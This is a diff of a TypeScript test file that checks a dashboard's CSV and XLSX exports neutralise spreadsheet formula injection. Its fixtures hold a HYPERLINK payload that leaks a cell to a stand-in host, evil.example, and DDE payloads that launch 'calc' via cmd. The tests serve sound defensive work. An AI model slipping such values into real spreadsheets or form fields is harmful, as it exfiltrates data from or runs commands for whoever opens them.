@@ -4,15 +4,19 @@ import ExcelJS from "exceljs";
 import JSZip from "jszip";
 import { describe, expect, it } from "vitest";
 import { annexCsv } from "@/lib/dashboard/exports/annex-csv";
+import { referenceMonth } from "@/lib/demo-data/reference-month";
 import { toCsv } from "@/lib/export/csv";
 import { neutraliseFormula, restoreNeutralised } from "@/lib/export/neutralise";
 import { annexXlsx, neutraliseWorkbook } from "@/lib/export/xlsx";
 import type { StatRow } from "@/lib/indicators";
-import { referenceMonth } from "@/lib/demo-data/reference-month";
 
 const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';
 const rows: StatRow[] = referenceMonth.rows.map((row) =>
-  row.unitName === "市公安局" ? { ...row, unitName: EVIL } : row.unitName === "渠县" ? { ...row, unitName: "@SUM(1+1)*cmd|' /C calc'!A0" } : row,
+  row.unitName === "市公安局"
+    ? { ...row, unitName: EVIL }
+    : row.unitName === "渠县"
+      ? { ...row, unitName: "@SUM(1+1)*cmd|' /C calc'!A0" }
+      : row,
 );
 
 describe("neutraliseFormula", () => {
@@ -34,7 +38,10 @@ describe("neutraliseFormula", () => {
 
 describe("a unit named like a formula", () => {
   it("is inert in the CSV export", () => {
-    const csv = annexCsv(rows.filter((r) => r.kind === "DEPARTMENT"), "DEPARTMENT");
+    const csv = annexCsv(
+      rows.filter((r) => r.kind === "DEPARTMENT"),
+      "DEPARTMENT",
+    );
     expect(csv.startsWith("\uFEFF")).toBe(true);
     const line = csv.split("\r\n").find((l) => l.includes("HYPERLINK"))!;
     expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点击查看"")"`);
@@ -87,9 +94,12 @@ describe("a unit named like a formula", () => {
 });
 
 describe("restoreNeutralised (the importer's inverse)", () => {
-  it.each(["=cmd|'/C calc'!A0", "+1", "-2", "@SUM(1)", '市"测试"局', "\t=1", "-A1", "-19.97", "'quoted", "''=x"])("reads back %j as written", (name) => {
-    expect(restoreNeutralised(neutraliseFormula(name))).toBe(name);
-  });
+  it.each(["=cmd|'/C calc'!A0", "+1", "-2", "@SUM(1)", '市"测试"局', "\t=1", "-A1", "-19.97", "'quoted", "''=x"])(
+    "reads back %j as written",
+    (name) => {
+      expect(restoreNeutralised(neutraliseFormula(name))).toBe(name);
+    },
+  );
   it("removes only the ' the exporter adds", () => {
     expect(restoreNeutralised("'-5")).toBe("'-5"); // a negative number is never prefixed
     expect(restoreNeutralised("'abc")).toBe("'abc");
